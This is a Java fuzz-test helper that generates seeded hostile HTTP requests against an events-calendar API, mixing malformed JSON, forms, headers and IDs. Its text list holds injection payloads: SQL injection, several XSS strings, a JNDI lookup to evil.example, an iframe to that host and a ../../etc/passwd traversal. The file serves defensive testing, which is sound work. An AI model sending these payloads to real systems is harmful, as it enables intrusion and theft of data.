package almanac.http.input;

import almanac.support.SiteTest;
import jakarta.json.JsonObject;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Generates hostile requests for every route of the index; the same seed gives the same ones, but for names and ids. */
public final class HostileRequests {
    /** Apart by bars; the first is empty, and the second a space. */
    private static final List<String> TEXTS =
            List.of("""
            ¦ ¦0¦-1¦1¦1.5¦1e400¦-0¦9999999999999999999999999999¦2147483648¦true¦yes¦null¦NaN¦\
            ' or '1'='1¦'; drop table events; --¦") or 1=1 --¦<script>alert(1)</script>¦<img src=x onerror=alert(1)>¦\
            <a href="javascript:alert(1)">x</a>¦<svg/onload=alert(1)>¦&lt;script&gt;alert(1)&lt;/script&gt;¦\
            <iframe src=//evil.example></iframe>¦<p style="background:url(javascript:alert(1))">x¦\
            ${jndi:ldap://evil.example/a}¦{{7*7}}¦%¦_%\\¦a\u0000b¦\u202e\u0007\ufeff¦😀𝕏¦é\u0301\u0301\u0301¦\
            ../../etc/passwd¦2031-02-30¦0000-00-00 00:00:00¦99999-01-01¦+999999999999 years¦next next friday¦\
            @-99999999999999¦UTC+99¦http://127.0.0.1/¦http://[::1¦https://example.org/LONG¦publish¦trash¦id¦\
            a,b,,c¦1,2,3¦"unclosed¦-- -a -"b\"""".replace("LONG", "long/".repeat(60)).split("¦"));

    /** The depth at which values have no parts. */
    private static final int DEEPEST = 3;

    /** Fields that take any text. */
    private static final List<String> TEXT_FIELDS =
            List.of("description excerpt slug cost address city country state province alt_text tags".split(" "));

    /** An account, which none of those who ask may change, where a route isn't about records. */
    private static final Target ADMINISTRATOR = new Target("1", "");

    private static final List<String> NAMES = List.of("id", "venue", "organizer", "name", "x", "");
    private static final String FORM = "application/x-www-form-urlencoded";
    private static final List<String> TYPES = List.of(
            "text/xml,image/png,multipart/form-data,multipart/form-data; boundary=b,application/x,a/b+json".split(","));

    private final Random random;
    private final List<Endpoint> endpoints;
    private final List<Endpoint> creates;
    private final Map<String, Target> kept;
    private final List<Target> spare;
    private final String word = SiteTest.fresh("fuzz");

    /** A route that takes some arguments. */
    public record Endpoint(String path, String method, List<String> args) {}

    /** A record that was made to be changed or deleted by these requests; they do so to no other. */
    public record Target(String id, String slug) {}

    /** A request: everything as it is sent. */
    public record Request(String method, String path, String type, byte[] body, String account, List<String> headers) {
        @Override
        public String toString() {
            String text = body == null ? "" : new String(body, StandardCharsets.ISO_8859_1);
            return method + " " + shortened(path) + " " + type + " " + shortened(text) + " " + headers;
        }

        private static String shortened(String text) {
            return text.length() > 400 ? text.substring(0, 400) + "… (" + text.length() + ")" : text;
        }
    }

    /**
     * @param kept records to change, by the names of their collections
     * @param spare records of any collection, to delete
     */
    public HostileRequests(long seed, List<Endpoint> endpoints, Map<String, Target> kept, List<Target> spare) {
        this.random = new Random(seed);
        this.endpoints = endpoints;
        this.kept = kept;
        this.spare = spare;
        this.creates = endpoints.stream()
                .filter(each -> each.method().equals("POST") && !each.path().contains("("))
                .toList();
    }

    /** The endpoints that the index tells of. */
    public static List<Endpoint> endpoints(JsonObject index) {
        List<Endpoint> endpoints = new ArrayList<>();
        index.getJsonObject("routes").forEach((key, route) -> route.asJsonObject()
                .getJsonArray("endpoints")
                .getValuesAs(JsonObject.class)
                .forEach(each -> endpoints.add(new Endpoint(
                        key.replaceFirst("^/cal/events/v1", ""),
                        each.getJsonArray("methods").getString(0),
                        List.copyOf(each.getJsonObject("args").keySet())))));
        return endpoints;
    }

    public Request next() {
        Endpoint endpoint = random.nextInt(3) == 0 ? one(creates) : one(endpoints);
        Target target = target(endpoint);
        String path = endpoint.path()
                .replace("(?P<id>\\d+)", id(target))
                .replace("(?P<slug>[^/]+)", slug(target))
                .replace("(?P<date>[^/]+)", random.nextBoolean() ? "2031-03-10" : slug(target));
        String account = random.nextInt(8) == 0 ? null : random.nextInt(3) == 0 ? "author" : "editor";
        boolean hasBody = !endpoint.method().equals("GET") && !endpoint.method().equals("DELETE");
        String query = !hasBody || random.nextInt(10) == 0 ? query(endpoint.args()) : "";
        String full = path + (random.nextInt(9) == 0 ? "/" : "") + (query.isEmpty() ? "" : "?" + query);
        if (!hasBody) {
            return new Request(endpoint.method(), full, null, null, account, headers());
        }
        String json = "application/json";
        return switch (random.nextInt(8)) {
            case 0 -> new Request(endpoint.method(), full, FORM, bytes(formBody(endpoint.args())), account, headers());
            case 1 -> new Request(endpoint.method(), full, json, broken(), account, headers());
            case 2 -> new Request(endpoint.method(), full, one(TYPES), broken(), account, headers());
            default -> new Request(endpoint.method(), full, json, bytes(json(endpoint.args())), account, headers());
        };
    }

    private Target target(Endpoint endpoint) {
        return endpoint.method().equals("DELETE")
                ? one(spare)
                : kept.getOrDefault(endpoint.path().replaceFirst("^/([a-z]*).*", "$1"), ADMINISTRATOR);
    }

    private String id(Target target) {
        List<String> others = List.of("0", "0" + target.id(), "99999999", "9".repeat(30), ADMINISTRATOR.id());
        return random.nextInt(4) > 0 ? target.id() : one(others);
    }

    private String slug(Target target) {
        String strange = one(TEXTS).replaceAll("[\u0000/\\\\]", "x") + "-" + word;
        return random.nextInt(4) > 0 ? encoded(strange) : target.slug();
    }

    private List<String> headers() {
        return switch (random.nextInt(12)) {
            case 0 -> List.of("If-Match", one(List.of("*", "\"x\"", "\"0-", "W/\"1\"", "a,b,\"")));
            case 1 -> List.of("If-None-Match", one(List.of("*", "x", "\"", "W/")));
            case 2 -> List.of("Idempotency-Key", one(List.of(word, " ", "x".repeat(300), word + "'")));
            case 3 -> List.of("Accept", one(List.of("text/html", "*/*;q=0", "x", "application/xml")));
            case 4 -> List.of("Range", "bytes=5-1");
            default -> List.of();
        };
    }

    /** What stands in a form, and as far as a client can write it, in an address. */
    private String pairs(List<String> args, List<String> strange) {
        List<String> pairs = new ArrayList<>();
        int count = args.isEmpty() ? 0 : random.nextInt(4);
        for (int i = 0; i < count; i++) {
            String name = random.nextInt(12) == 0 ? one(List.of("unknown", "[", "a[b][c][d]", "%00")) : one(args);
            String suffix = one(List.of("", "", "", "[]", "[x]", "[0][y]", "[[", "%5B%5D"));
            String value = random.nextInt(12) == 0 ? one(strange) : encoded(one(TEXTS));
            pairs.add(name + suffix + "=" + value);
            if (random.nextInt(8) == 0) {
                pairs.add(name + suffix + "=" + encoded(one(TEXTS)));
            }
        }
        return String.join("&", pairs);
    }

    private String query(List<String> args) {
        return pairs(args, List.of("%ff", "%c3%28", "%00", ids(10_000), "a".repeat(5_000), "%F0%9F"));
    }

    private String formBody(List<String> args) {
        return pairs(args, List.of("%", "%zz", "%u0041", ids(10_000), "a".repeat(200_000)));
    }

    /** Some have many wrong values: all are told at once, so that they cost no more than a few. */
    private String json(List<String> args) {
        List<String> members = new ArrayList<>();
        boolean onlyTexts = random.nextBoolean();
        boolean hasMany = random.nextBoolean();
        for (String arg : args) {
            if (onlyTexts && TEXT_FIELDS.contains(arg)) {
                members.add(quoted(arg) + ":" + quoted(one(TEXTS) + one(TEXTS)));
            } else if (!onlyTexts && random.nextInt(hasMany ? 2 : 6) == 0) {
                members.add(quoted(arg) + ":" + value(hasMany ? DEEPEST : 0));
            }
        }
        for (String needed : List.of("title", "venue", "organizer", "name")) {
            if (args.contains(needed) && random.nextInt(3) > 0) {
                members.add(quoted(needed) + ":" + quoted(one(TEXTS) + " " + word + " " + random.nextInt(100)));
            }
        }
        if (args.contains("start_date") && random.nextInt(3) > 0) {
            members.add("\"start_date\":\"2031-03-10 09:00\",\"end_date\":\"2031-03-10 10:00\"");
        }
        return "{" + String.join(",", members) + "}";
    }

    private String value(int depth) {
        return switch (random.nextInt(depth == DEEPEST ? 7 : 14)) {
            case 0 -> "null";
            case 1 -> one(List.of("true", "false"));
            case 2 -> one(List.of("0", "-1", "1.5", "1e400", "-1e-400", "123456789012345678901234567890", "7"));
            case 3, 4, 5 -> quoted(one(TEXTS));
            case 6 -> one(List.of("\"\\ud800\"", "\"\\u0000\"", "\"\\udc00\\ud800\"", quoted("x".repeat(20_000))));
            case 7, 8 -> "[" + some(i -> value(depth + 1)) + "]";
            case 9 -> "[" + ids(10_000) + "]";
            case 10 -> "[".repeat(2_000) + "]".repeat(2_000);
            default -> "{" + some(i -> quoted(one(NAMES)) + ":" + value(depth + 1)) + "}";
        };
    }

    private String some(IntFunction<String> values) {
        return IntStream.range(0, random.nextInt(4)).mapToObj(values).collect(Collectors.joining(","));
    }

    private byte[] broken() {
        return switch (random.nextInt(7)) {
            case 0 -> new byte[0];
            case 1 -> bytes("{");
            case 2 -> bytes("[1,2]");
            case 3 -> new byte[] {'{', '"', (byte) 0xff, (byte) 0xfe, '"', ':', '1', '}'};
            case 4 -> bytes("{\"a\":".repeat(5_000));
            case 5 -> bytes("--b\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nx");
            default -> bytes("{\"title\":\"x\"} trailing");
        };
    }

    private static String ids(int count) {
        return IntStream.rangeClosed(1, count).mapToObj(Integer::toString).collect(Collectors.joining(","));
    }

    private static String quoted(String text) {
        return jakarta.json.Json.createValue(text).toString();
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private <T> T one(List<T> of) {
        return of.get(random.nextInt(of.size()));
    }
}
